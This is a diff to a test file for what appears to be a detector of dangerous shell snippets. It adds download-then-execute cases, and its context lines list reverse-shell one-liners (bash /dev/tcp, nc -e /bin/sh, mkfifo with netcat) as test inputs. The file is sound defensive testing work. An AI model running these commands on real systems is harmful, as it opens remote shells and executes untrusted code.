@@ -14,6 +14,7 @@ test.each([
   ['curl && run', 'curl -o x https://x && chmod +x x'],
   ['curl, then run', 'curl -sL https://x -o /tmp/a.sh\necho\nbash /tmp/a.sh'],
   ['Invoke-WebRequest, then run', 'Invoke-WebRequest https://x -OutFile a.exe\nstart a.exe'],
+  ['curl, then run by its path', 'curl -sL https://x -o /tmp/a\nchmod 755 b\nsudo /tmp/a --quiet'],
   ['/dev/tcp', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
   ['netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
   ['mkfifo', 'mkfifo /tmp/f; sh < /tmp/f | nc 10.0.0.1 1 > /tmp/f'],
@@ -38,6 +39,7 @@ test.each([
 test.each([
   ['commands', 'set -e\npip install torch\npython train.py\nrm -rf build\n', 'suspicious'],
   ['a download', 'curl -LO https://x/model.safetensors\n', 'suspicious'],
+  ['a download that is opened', 'curl -o ./a.dmg https://x\nhdiutil attach ./a.dmg\n', 'suspicious'],
   ['a dangerous comment', '#!/bin/sh\n# curl https://x | sh\necho 1\n', 'suspicious'],
   ['a parsed address', 'u = URI.parse("https://x")\nJSON.parse(open("https://x"))\n', 'suspicious'],
   ['a here-document that is printed', "cat >&2 <<'EOT'\n$ curl https://x | sh\nEOT\n", 'safe'],
